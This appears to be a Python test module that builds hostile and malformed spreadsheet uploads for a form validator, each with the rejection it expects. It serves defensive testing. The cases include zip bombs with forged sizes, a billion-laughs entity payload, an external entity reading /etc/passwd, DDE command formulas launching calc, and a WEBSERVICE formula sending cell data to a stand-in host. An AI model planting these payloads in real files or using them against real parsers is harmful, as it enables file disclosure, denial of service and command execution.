"""A corpus of hostile and broken returns, built by code (no opaque binaries), each with the
exact outcome it must get.  ``CASES`` maps a case name to (builder, expected); a builder takes the
form model, a valid filled workbook's bytes and the seed instance, and returns the file's bytes.

Expected: (status, code) where code is the first error's code (None: no error, i.e. valid) and
optionally a third item, words the message must contain.  Cases needing LibreOffice (xls, ods,
rows inserted by a real client) live in test_libreoffice.py.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl

from xltemplate.form.model import FormModel

Builder = Callable[[FormModel, bytes, dict[str, Any]], bytes]


def rezip(xlsx: bytes, edit: Callable[[str, bytes], bytes | None]) -> bytes:
    """Rewrite each part with ``edit(name, data)``; None drops the part."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = edit(info.filename, src.read(info.filename))
            if data is not None:
                dst.writestr(info.filename, data)
    return out.getvalue()


def with_openpyxl(xlsx: bytes, change: Callable[[openpyxl.Workbook], None]) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def cell_of(model: FormModel, pointer: str) -> tuple[str, str]:
    f = model.by_pointer[pointer]
    return f.sheet, f.cell


def _set(model: FormModel, values: dict[str, Any]) -> Callable[[openpyxl.Workbook], None]:
    def change(wb: openpyxl.Workbook) -> None:
        for pointer, value in values.items():
            sheet, cell = cell_of(model, pointer)
            wb[sheet][cell] = value
    return change


MAIN = "xl/worksheets/sheet2.xml"  # the main sheet of the bundled form (cover is sheet1)
LAUGHS = (b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
          b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>')


def _inject_prolog(part: str, dtd: bytes, use: tuple[bytes, bytes] | None = None) -> Callable[[str, bytes], bytes]:
    def edit(name: str, data: bytes) -> bytes:
        if name == part:
            data = data.replace(b"?>", b"?>" + dtd, 1)
            if use:
                data = data.replace(use[0], use[1], 1)
        return data
    return edit


def _forged_bomb(xlsx: bytes) -> bytes:
    """The main sheet padded to 64 MB, its header claiming 1,000 bytes (a bomb that lies)."""
    big = rezip(xlsx, lambda n, d: d.replace(b"</sheetData>", b"<!--" + b" " * (64 << 20) + b"--></sheetData>")
                if n == MAIN else d)
    data = bytearray(big)
    info = zipfile.ZipFile(io.BytesIO(big)).getinfo(MAIN)
    struct.pack_into("<I", data, info.header_offset + 22, 1000)
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        n = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46:pos + 46 + n]) == MAIN.encode():
            struct.pack_into("<I", data, pos + 24, 1000)
        pos += 4
    return bytes(data)


def _docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def _insert_rows(model: FormModel) -> Callable[[openpyxl.Workbook], None]:
    """Protection removed, two rows inserted by a program that does not update defined names."""
    def change(wb: openpyxl.Workbook) -> None:
        ws = wb[model.sheets[1].name]
        ws.protection.sheet = False
        ws.insert_rows(5, 2)
    return change


def _delete_row_names(xlsx: bytes, model: FormModel) -> bytes:
    """A row deleted in a real client: the names of its cells become #REF!."""
    f = model.by_pointer["/unit/name"]
    return rezip(xlsx, lambda n, d: re.sub(rf'(<definedName name="{f.name}">)[^<]*'.encode(), rb"\1#REF!", d)
                 if n == "xl/workbook.xml" else d)


def _strip_metadata(xlsx: bytes) -> bytes:
    """What a program that keeps only visible sheets and drops document properties writes."""
    def change(wb: openpyxl.Workbook) -> None:
        del wb["_xltemplate"]
    no_sheet = with_openpyxl(xlsx, change)
    return rezip(no_sheet, lambda n, d: re.sub(rb"<property .*?</property>", b"", d, flags=re.S)
                 if n == "docProps/custom.xml" else d)


def _meta(xlsx: bytes, key: str, value: str) -> bytes:
    def sub_props(n: str, d: bytes) -> bytes:
        if n == "docProps/custom.xml":
            return re.sub(rf'(name="xltemplate\.{key}"><vt:lpwstr>)[^<]*'.encode(), rb"\g<1>" + value.encode(), d)
        return d

    def sheet(wb: openpyxl.Workbook) -> None:
        for row in wb["_xltemplate"].iter_rows(max_col=2):
            if row[0].value == key:
                row[1].value = value
    return with_openpyxl(rezip(xlsx, sub_props), sheet)


def _plain_workbook() -> bytes:
    """A workbook typed from scratch: the title and a value, no template behind it."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = "乌海市财政支出预算绩效目标申报表"
    wb.active["B3"] = "市信访局"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _wrong_dimension(xlsx: bytes) -> bytes:
    """As WPS sometimes writes: a dimension record claiming the sheet is just A1."""
    return rezip(xlsx, lambda n, d: re.sub(rb"<dimension ref=\"[^\"]*\"/>", b'<dimension ref="A1"/>', d)
                 if n.startswith("xl/worksheets/") else d)


def _control_chars(xlsx: bytes) -> bytes:
    """A bell character in a contact, stored as Excel stores one (``_x0007_`` in the shared string)."""
    return rezip(xlsx, lambda n, d: d.replace("靳兵399****".encode(), "靳兵_x0007_399****".encode())
                 if n == "xl/sharedStrings.xml" else d)


def _hidden_row(model: FormModel) -> Callable[[openpyxl.Workbook], None]:
    def change(wb: openpyxl.Workbook) -> None:
        f = model.by_pointer["/budget_items/1/name"]
        ws = wb[f.sheet]
        ws[f.cell] = "隐藏的明细"
        ws.cell(row=f.row + 1, column=f.col + 3).value = 3
        ws.row_dimensions[f.row + 1].hidden = True
    return change


# -- active content: macros, controls, objects, links, DDE and references to other workbooks --------

_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_EXTERNAL = 'TargetMode="External"'
_MACRO_TYPE = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def _add_parts(xlsx: bytes, parts: dict[str, bytes], edit: Callable[[str, bytes], bytes] | None = None) -> bytes:
    """The package with ``parts`` added (and every part through ``edit``, when given)."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            dst.writestr(info.filename, edit(info.filename, data) if edit else data)
        for name, data in parts.items():
            dst.writestr(name, data)
    return out.getvalue()


def _macro_enabled(name: str, data: bytes) -> bytes:
    """The workbook part typed as an .xlsm's, as Excel saves a workbook with macros."""
    if name == "[Content_Types].xml":
        return re.sub(rb"application/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet\.main\+xml", _MACRO_TYPE,
                      data)
    return data


def _vba_project(xlsx: bytes) -> bytes:
    return _add_parts(xlsx, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)}, _macro_enabled)


def _sheet_rels(xlsx: bytes, rels: str) -> bytes:
    """Relationships of the main sheet (it has none of its own in a template)."""
    return _add_parts(xlsx, {"xl/worksheets/_rels/sheet2.xml.rels": (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
        f'"http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>').encode()})


def _external_link(xlsx: bytes) -> bytes:
    """A link to another workbook, as Excel keeps one: its part, and the workbook's relationship to it."""
    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns='
            b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="'
            + _REL_NS.encode() + b'"/></externalLink>')

    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="' + _REL_NS.encode()
                                + b'/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
        return data
    return _add_parts(xlsx, {"xl/externalLinks/externalLink1.xml": link}, edit)


def _formula_at(cell: str, formula: str) -> Callable[[openpyxl.Workbook], None]:
    """A formula typed into a cell of the main sheet outside the form (no input, no label)."""
    def change(wb: openpyxl.Workbook) -> None:
        wb.worksheets[1][cell] = formula
    return change


def _defined_name(text: str, sheet_level: bool = False) -> Callable[[str, bytes], bytes]:
    """A defined name with ``text`` (an external reference, a DDE link) in the workbook part."""
    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/workbook.xml":
            local = b' localSheetId="1"' if sheet_level else b""
            return data.replace(b"</definedNames>", b'<definedName name="\xe4\xb8\x8a\xe5\xb9\xb4"' + local + b">"
                                + text.replace("&", "&amp;").encode() + b"</definedName></definedNames>", 1)
        return data
    return edit


def _ods_with_macros() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
        z.writestr("Basic/Standard/Module1.xml", "<script:module/>")
    return out.getvalue()


CASES: dict[str, tuple[Builder, tuple]] = {
    # not a spreadsheet
    "pdf": (lambda m, x, d: b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF", ("unreadable", "pdf", "PDF")),
    "docx": (lambda m, x, d: _docx(), ("unreadable", "word", "Word")),
    "png": (lambda m, x, d: b"\x89PNG\r\n\x1a\n" + bytes(64), ("unreadable", "image", "图片")),
    "jpeg": (lambda m, x, d: b"\xff\xd8\xff\xe0" + bytes(64), ("unreadable", "image", "图片")),
    "empty": (lambda m, x, d: b"", ("unreadable", "empty", "空")),
    "random": (lambda m, x, d: random.Random(7).randbytes(4096), ("unreadable", "not_xlsx", "xlsx")),
    "html": (lambda m, x, d: "<html><body><table><tr><td>项目名称</td></tr></table></body></html>".encode(),
             ("unreadable", "html_or_xml", "网页")),
    "truncated_zip": (lambda m, x, d: x[: len(x) // 2], ("unreadable", "truncated", "不完整")),
    "missing_workbook_part": (lambda m, x, d: rezip(x, lambda n, b: None if n == "xl/workbook.xml" else b),
                              ("unreadable", "missing_part", "xl/workbook.xml")),
    "missing_sheet_part": (lambda m, x, d: rezip(x, lambda n, b: None if n == MAIN else b),
                           ("unreadable", "missing_part", MAIN)),
    "ole_without_workbook": (lambda m, x, d: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024),
                             ("unreadable", "corrupt", "损坏")),
    # limits and XML
    "zip_bomb_honest": (lambda m, x, d: rezip(x, lambda n, b: b.replace(
        b"</sheetData>", b"<!--" + b" " * (40 << 20) + b"--></sheetData>") if n == MAIN else b),
        ("unreadable", "bomb", "安全上限")),
    "zip_bomb_forged_size": (lambda m, x, d: _forged_bomb(x), ("unreadable", "bomb", "安全上限")),
    "billion_laughs": (lambda m, x, d: rezip(x, _inject_prolog("xl/sharedStrings.xml", LAUGHS, (b"<t>", b"<t>&d;"))),
                       ("unreadable", "unsafe_xml", "不安全")),
    "external_entity": (lambda m, x, d: rezip(x, _inject_prolog(
        MAIN, b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>', (b"<v>", b"<v>&e;"))),
        ("unreadable", "unsafe_xml", "不安全")),
    "entity_in_workbook_xml": (lambda m, x, d: rezip(x, _inject_prolog("xl/workbook.xml", LAUGHS)),
                               ("unreadable", "unsafe_xml", "不安全")),
    # identity
    "other_form": (lambda m, x, d: _meta(x, "form_id", "someone-else"), ("unreadable", "unknown_form", "someone-else")),
    "older_version": (lambda m, x, d: _meta(x, "form_version", "2020.1"), ("unreadable", "old_version", "2020.1")),
    "no_metadata_plain_workbook": (lambda m, x, d: _plain_workbook(), ("unreadable", "no_metadata", "表单标识")),
    "no_metadata_read_by_labels": (lambda m, x, d: _strip_metadata(x), ("invalid", "no_metadata", "按")),
    # structure
    "rows_inserted_names_stale": (lambda m, x, d: with_openpyxl(x, _insert_rows(m)),
                                  ("unreadable", "structure", "结构")),
    "row_deleted": (lambda m, x, d: _delete_row_names(x, m), ("unreadable", "structure", "删除")),
    # cells
    "formula_where_value_belongs": (lambda m, x, d: with_openpyxl(x, _set(m, {"/funding/request": "=3+4"})),
                                    ("invalid", "formula", "公式")),
    "data_in_hidden_row": (lambda m, x, d: with_openpyxl(x, _hidden_row(m)), ("invalid", "hidden", "隐藏")),
    "wrong_dimension_record": (lambda m, x, d: _wrong_dimension(x), ("valid", None)),
    "very_long_text": (lambda m, x, d: with_openpyxl(x, _set(m, {"/unit/functions": "长" * 30000})),
                       ("invalid", "maxLength", "3000")),
    "control_characters": (lambda m, x, d: _control_chars(x), ("invalid", "control", "控制字符")),
    "formula_like_text": (lambda m, x, d: with_openpyxl(x, _set(m, {"/unit/contact": "'=cmd|' /C calc'!A0"})),
                          ("valid", None)),
    # active content, refused whatever else is in the file (the message says what and where)
    "vba_project": (lambda m, x, d: _vba_project(x), ("unreadable", "active_content", "不含宏和外部链接")),
    "macro_enabled_type": (lambda m, x, d: _add_parts(x, {}, _macro_enabled), ("unreadable", "active_content", "宏")),
    "xlm_macro_sheet": (lambda m, x, d: _add_parts(x, {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
                        ("unreadable", "active_content", "宏表")),
    "activex_control": (lambda m, x, d: _add_parts(x, {"xl/activeX/activeX1.xml": b"<ax:ocx/>",
                                                     "xl/activeX/activeX1.bin": b"\0" * 64}),
                        ("unreadable", "active_content", "ActiveX")),
    "embedded_ole_object": (lambda m, x, d: _add_parts(x, {"xl/embeddings/oleObject1.bin": b"\0" * 64}),
                            ("unreadable", "active_content", "嵌入的对象")),
    "external_link_part": (lambda m, x, d: _external_link(x),
                           ("unreadable", "active_content", "xl/externalLinks/externalLink1.xml")),
    "external_relationship": (lambda m, x, d: _sheet_rels(x, f'<Relationship Id="rId1" Type="{_REL_NS}/image" '
                                                           f'Target="http://example.com/seal.png" {_EXTERNAL}/>'),
                              ("unreadable", "active_content", "http://example.com/seal.png")),
    "external_hyperlink_is_fine": (lambda m, x, d: _sheet_rels(x, f'<Relationship Id="rId1" Type="{_REL_NS}/hyperlink" '
                                                                f'Target="mailto:clerk@example.com" {_EXTERNAL}/>'),
                                   ("valid", None)),
    "dde_formula_outside_the_form": (lambda m, x, d: with_openpyxl(x, _formula_at("J60", "=cmd|' /C calc'!A0")),
                                     ("unreadable", "active_content", "绩效目标申报表!J60")),
    "external_reference_formula": (lambda m, x, d: with_openpyxl(
        x, _formula_at("J61", "='C:\\预算\\[上年.xlsx]汇总'!A1")), ("unreadable", "active_content", "其他工作簿")),
    "webservice_formula": (lambda m, x, d: with_openpyxl(x, _formula_at("J62", '=WEBSERVICE("http://x.example/?q="&A1)')),
                           ("unreadable", "active_content", "WEBSERVICE")),
    "external_reference_name": (lambda m, x, d: rezip(x, _defined_name("'[上年.xlsx]汇总'!$A$1")),
                                ("unreadable", "active_content", "上年")),
    "dde_in_a_sheet_level_name": (lambda m, x, d: rezip(x, _defined_name("cmd|' /C calc'!A0", sheet_level=True)),
                                  ("unreadable", "active_content", "DDE")),
    "ods_with_macros": (lambda m, x, d: _ods_with_macros(), ("unreadable", "active_content", "宏")),
    "harmless_formulas_outside_the_form": (lambda m, x, d: with_openpyxl(x, lambda wb: (
        _formula_at("J63", '="a|b"&"[c]"')(wb), _formula_at("J64", "=SUM(J63:J63)")(wb),
        _formula_at("J65", "='封面'!A1")(wb))), ("valid", None)),
}
